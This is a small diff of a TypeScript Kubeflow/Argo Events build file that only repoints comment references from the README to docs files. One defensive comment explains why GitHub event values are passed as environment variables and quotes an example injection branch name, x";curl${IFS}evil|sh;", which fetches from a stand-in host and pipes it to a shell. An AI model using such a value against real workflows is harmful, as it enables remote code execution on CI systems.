@@ -8,7 +8,7 @@ export const EXAMPLE_PROFILE = 'kubeflow-user-example-com';
 
 /**
  * The Secret the GitHub event source checks webhook signatures with. Create it before
- * applying dist/ (README, "Trigger workflows from GitHub"):
+ * applying dist/ (docs/events.md, "Trigger workflows from GitHub"):
  *   kubectl -n argo-events create secret generic github-webhook --from-literal=secret=$(openssl rand -hex 20)
  */
 export const GITHUB_WEBHOOK_SECRET = { name: 'github-webhook', key: 'secret' };
@@ -52,7 +52,7 @@ export function buildApp(outdir?: string, platform: Platform = Platform.DEFAULT)
           name: 'main',
           image: 'docker.io/alpine/git:v2.32.0',
           // Event values arrive as environment variables, never as shell text: Argo substitutes
-          // {{…}} as text, and a branch may be named x";curl${IFS}evil|sh;" (README, "Security").
+          // {{…}} as text, and a branch may be named x";curl${IFS}evil|sh;" (docs/security.md, "Security").
           env: [
             { name: 'REPO_URL', value: '{{inputs.parameters.repo-url}}' },
             { name: 'REVISION', value: '{{inputs.parameters.revision}}' },
@@ -99,5 +99,5 @@ export function buildApp(outdir?: string, platform: Platform = Platform.DEFAULT)
 }
 
 // Run directly (`ts-node main.ts`), the synth command does the work: checked output, a
-// Kustomization, and the output-directory rules (README, "Synth").
+// Kustomization, and the output-directory rules (docs/synth.md, "Synth").
 if (require.main === module) require(`${__dirname}/scripts/synth.js`);
